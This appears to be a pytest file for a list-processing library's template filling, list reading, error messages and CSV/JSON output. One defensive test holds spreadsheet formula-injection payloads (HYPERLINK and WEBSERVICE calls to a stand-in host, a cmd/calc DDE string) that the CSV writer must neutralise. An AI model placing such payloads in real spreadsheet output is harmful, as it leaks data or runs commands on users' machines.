"""Lists and templates: what is read, what is filled in, what comes out, and what is said of mistakes."""

import csv
import json
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from stretto import ListForm, Row, read_list
from stretto.errors import TaskError
from stretto.maps import Ordered, Table, filled_in, ids_of, json_line, listed

COWS = [{"name": "Ann", "size": {"cm": 140}, "tags": ["red", "old"], "First name": "A"}, {"name": "Bo", "size": None}]


def filled(template: str, items: Sequence[Any]) -> list[str]:
    return filled_in(template, items, [f"row {number}" for number in range(1, len(items) + 1)])


@pytest.mark.parametrize(
    ("template", "told"),
    [
        ("{name}: {size}", 'Ann: {"cm":140}'),
        ("{size.cm} {tags.1} {First name}", "140 old A"),
        ("{item.name} {{name}} {{First name}} {{ name }}", "Ann {name} {First name} {{ name }}"),
        ('As {"a": {name}, "b": {}}', 'As {"a": Ann, "b": {}}'),
    ],
)
def test_fields_are_filled_in_and_other_braces_are_braces(template: str, told: str) -> None:
    assert filled(template, COWS[:1]) == [told]


def test_what_is_filled_in_is_not_read_again() -> None:
    assert filled("{item}", ["{item} {x}", "{{item}}"]) == ["{item} {x}", "{{item}}"]


def test_the_whole_of_an_item_is_its_text_or_json() -> None:
    assert filled("<{item}>", ["é", 3, None, {"a": "é"}, [1]]) == ["<é>", "<3>", "<null>", '<{"a":"é"}>', "<[1]>"]
    assert filled("{item}", [{"item": "own"}]) == ["own"]


@pytest.mark.parametrize(
    ("template", "items", "said"),
    [
        ("{nmae}", COWS, r"the template: no row has \{nmae\}, which may be \{name\}; \{\{nmae\}\} stands for a lit"),
        ("{x}", ["a"], r"no row has \{x\}; there are \{item\}; "),
        ("{size.kg}", COWS, r"no row has \{size.kg\}"),
        ("{size.cm}", COWS, r"^row 2: lacks 'size.cm'; it has name, size; give it one"),
        ("{a}", [{"a": 1}, {}, "x", {"b": 2}], r"^row 2: lacks 'a' \(so do 2 other rows\); it has no field"),
        ("Say hello", ["a"], r"the same for every row; say where a row belongs: \{item\}"),
        ("{item}", ["a", " "], r"^row 2: its task is empty"),
    ],
)
def test_what_cannot_be_filled_in_is_told_with_its_place(template: str, items: Sequence[Any], said: str) -> None:
    with pytest.raises(TaskError, match=said):
        filled(template, items)


@pytest.mark.parametrize(
    ("items", "ids"),
    [
        (["a", "b"], ["t1", "t2"]),
        ([{"id": "b7"}, {"id": 12}], ["b7", "12"]),
        ([{"id": "b"}, {"id": "b"}], ["t1", "t2"]),
        ([{"id": "b"}, {"x": 1}], ["t1", "t2"]),
        ([{"id": "b"}, {"id": "two words"}], ["t1", "t2"]),
        ([{"id": "b"}, {"id": "i1"}], ["t1", "t2"]),
        ([{"id": True}, {"id": None}], ["t1", "t2"]),
    ],
)
def test_rows_are_called_by_their_ids_if_all_of_them_can_be(items: list[Any], ids: list[str]) -> None:
    assert ids_of(items) == ids


class Cow(BaseModel):
    name: str


def test_items_of_a_program_become_data() -> None:
    given = ["a", Cow(name="Ann"), {1: Decimal("1.5")}, float("nan")]
    assert listed(given) == ("a", {"name": "Ann"}, {"1": "1.5"}, None)
    with pytest.raises(TaskError, match=r"items\[1\]: cannot be written as JSON: object is no data"):
        listed(["a", object()])


LISTS: list[tuple[str, bytes, list[Any]]] = [
    ("a.txt", b"\xef\xbb\xbf one \r\n\r\n\ttwo, 2\n", ["one", "two, 2"]),
    ("a.csv", b'\xef\xbb\xbfn,m\r\n1,"A, ""B""\nC"\r\n\r\n2,\r\n', [{"n": "1", "m": 'A, "B"\nC'}, {"n": "2", "m": ""}]),
    ("a.csv", b"a;b\n1,5;2\n3\n", [{"a": "1,5", "b": "2"}, {"a": "3"}]),
    ("a.CSV", b"name\nAnn, or Bo\n".replace(b",", b""), [{"name": "Ann or Bo"}]),
    ("a.tsv", b"a\tb,c\n1\t2\n", [{"a": "1", "b,c": "2"}]),
    ("a.csv", b"a,\n1,2,,\n", [{"a": "1", "column 2": "2"}]),
    ("a.jsonl", b'"x"\n\n{"a": {"b": 1}}\n3\n', ["x", {"a": {"b": 1}}, 3]),
    ("a.json", b' [1, {"a": "\xe2\x80\xa8"}]', [1, {"a": "\u2028"}]),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "items"), LISTS)
def test_a_list_is_read_as_its_name_says(tmp_path: Path, name: str, text: bytes, items: list[Any]) -> None:
    path = tmp_path / name
    path.write_bytes(text)
    assert read_list(path) == items


def test_a_cell_may_be_as_long_as_it_likes(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(f"a\n{'x' * 1_000_000}\n")
    assert len(read_list(path)[0]["a"]) == 1_000_000


@pytest.mark.parametrize(
    ("name", "text", "form", "said"),
    [
        ("a.txt", b"\n \n", None, r"a.txt: there are no items in it; "),
        ("a.csv", b"a,b\n", None, r"a.csv: there are no items in it below its header"),
        ("a.csv", b"a,a\n1,2\n", None, r"line 1: the column 'a' stands twice"),
        ("a.csv", b"a,b\n1,2\n\n3,4,5\n", None, r"row 2 \(line 4\): 3 cells, but the header has 2; put"),
        ("a.csv", b'a,b\n1,"2\n3,4\n', None, r"a.csv: line 2: no CSV: unexpected end of data; a quote"),
        ("a.jsonl", b'{"a":1}\n{a}\n', None, r"a.jsonl: line 2: no JSON"),
        ("a.json", b'{"a":1}', None, r"a.json: it is no JSON array"),
        ("a.txt", b"a\n\xff\n", None, r"not UTF-8 text \(line 2, byte 2\)"),
        ("a.csv", "a,b".encode("utf-16"), None, r"UTF-16 text; make UTF-8 of it first"),
        ("a.txt", b"a\0", None, r"binary data"),
        ("a.txt", b"x", "jsonl", r"a.txt: line 1: no JSON"),
    ],
)  # fmt: skip
def test_what_is_no_list_is_told_with_its_place(
    tmp_path: Path, name: str, text: bytes, form: ListForm | None, said: str
) -> None:
    path = tmp_path / name
    path.write_bytes(text)
    with pytest.raises(TaskError, match=said):
        read_list(path, form)


def test_a_list_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(TaskError, match=r"none\.csv: cannot be read: No such file"):
        read_list(tmp_path / "none.csv")


def row(item: Any, **facts: Any) -> Row:
    return Row(**{"id": "t1", "index": 0, "item": item, "answer": "yes", "state": "done", **facts})


def test_a_row_is_a_line_of_json_and_loses_nothing_of_its_item() -> None:
    item = {"id": "no id", "answer": "x", "answer_in": 1, "name": "Ann"}
    told = json.loads(json_line(row(item, cost=Decimal("0.5"))))
    assert list(told)[:5] == ["id", "id_in", "answer_in_in", "answer_in", "name"]
    assert (told["id"], told["id_in"], told["answer"], told["cost"]) == ("t1", "no id", "yes", 0.5)
    failed = json.loads(json_line(row("é", answer="", state="failed", error="why")))
    assert (failed["item"], failed["answer"], failed["state"], failed["error"]) == ("é", None, "failed", "why")
    assert json.loads(json_line(row("a", parsed={"x": 1})))["answer"] == {"x": 1}


def test_a_table_has_the_columns_of_the_list() -> None:
    items = [{"a": "1,2", "state": "N"}, {"b": {"c": 1}, "a": None}]
    table = Table(items)
    assert table.head == "a,state_in,b,answer,state,error\n"
    assert table.line(row(items[0])) == '"1,2",N,,yes,done,\n'
    assert table.line(row(items[1], state="failed", error="why")) == ',,"{""c"":1}",yes,failed,why\n'
    assert Table(["x"]).head == "item,answer,state,error\n"


@pytest.mark.parametrize(
    "said",
    [
        '=HYPERLINK("http://x?"&A1)',
        "+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=A1&WEBSERVICE(A2)",
        '-2+(3)+IMPORTXML("http://x")',
    ],
)
def test_a_formula_that_a_model_wrote_is_a_text_to_a_spreadsheet_too(said: str) -> None:
    table = Table(["x"])
    for line in (table.line(row("x", answer=said)), table.line(row("x", answer="", error=said))):
        assert f"'{said}" in next(csv.reader([line]))


@pytest.mark.parametrize("said", ["-5", "-5°C", "- Thames (in London)", "=1+1", "f(x) = 2", "+44 20", "- a | b"])
def test_what_begins_like_a_formula_and_calls_nothing_stays_what_it_is(said: str) -> None:
    assert next(csv.reader([Table(["x"]).line(row("x", answer=said))]))[1] == said


def test_rows_wait_for_those_before_them() -> None:
    ordered = Ordered(["a", "b", "c"])
    one, two, three = (row("x", id=id_) for id_ in "abc")
    assert (ordered.take(three), ordered.take(one), ordered.take(two)) == ([], [one], [two, three])
